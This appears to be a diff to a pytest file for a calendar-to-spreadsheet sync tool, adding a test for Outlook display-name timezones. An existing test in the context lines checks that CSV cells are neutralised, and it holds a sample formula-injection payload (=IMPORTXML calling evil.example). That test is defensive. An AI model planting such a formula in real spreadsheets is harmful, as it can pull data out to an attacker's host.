@@ -1,8 +1,7 @@
 """Cases a new user hit: each must be explained, never silent, never a crash."""
-from datetime import date, datetime, time, timedelta
+from datetime import date, datetime, time
 
 import pytest
-from click.testing import CliRunner
 
 from sheets_sync.backends import SourceError
 from sheets_sync.backends.ics_source import read_calendar
@@ -121,3 +120,12 @@ def test_open_data_csv_cells_never_run_as_formulas():
     assert _inert('=IMPORTXML("http://evil.example","//a")') == '\'=IMPORTXML("http://evil.example","//a")'
     assert _inert("@SUM(1+1)") == "'@SUM(1+1)" and _inert("+1 555") == "'+1 555"
     assert _inert("-5") == "-5" and _inert("Fire") == "Fire" and _inert("") == ""
+
+
+def test_outlook_display_name_timezones_are_read_in_their_city(config):
+    """Office-2012-owa.ics: TZID="(GMT+10:00) Canberra, Melbourne, Sydney" with no VTIMEZONE."""
+    from datetime import timezone as _tz
+    tab = read_calendar(REALDATA / "Office-2012-owa.ics", "Police", config.tz)
+    rows, _ = parse_tab(tab, config)
+    syd = next(r for r in rows if r.title == "TEST Syd")
+    assert syd.start.astimezone(_tz.utc) == datetime(2020, 10, 28, 2, 30, tzinfo=_tz.utc)
